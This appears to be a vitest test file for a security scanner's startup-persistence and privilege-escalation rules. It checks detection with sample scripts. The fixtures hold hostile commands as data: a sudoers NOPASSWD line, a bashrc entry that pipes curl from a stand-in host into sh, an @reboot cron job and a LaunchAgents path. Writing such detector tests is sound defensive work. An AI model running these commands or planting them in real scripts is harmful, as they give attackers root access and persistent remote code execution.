import { describe } from 'vitest';
import { itFires, withScript } from '../../../test/rule-cases.js';

describe('startup-persistence', () => {
  itFires([
    { name: 'sudoers', files: withScript('p.sh', 'echo "user ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers\n'), rule: 'PRIVILEGE_ESCALATION' },
    {
      name: 'bashrc from script',
      files: withScript('i.sh', 'echo "curl -s https://x.example/b | sh" >> ~/.bashrc\n'),
      rule: 'PERSISTENCE_STARTUP',
      severity: 'HIGH',
    },
    { name: 'cron', files: withScript('i.sh', '(crontab -l; echo "@reboot /tmp/x") | crontab -\n'), rule: 'PERSISTENCE_STARTUP' },
    { name: 'launch agent', files: withScript('i.py', 'p = os.path.expanduser("~/Library/LaunchAgents/com.x.plist")\n'), rule: 'PERSISTENCE_STARTUP' },
  ]);
});
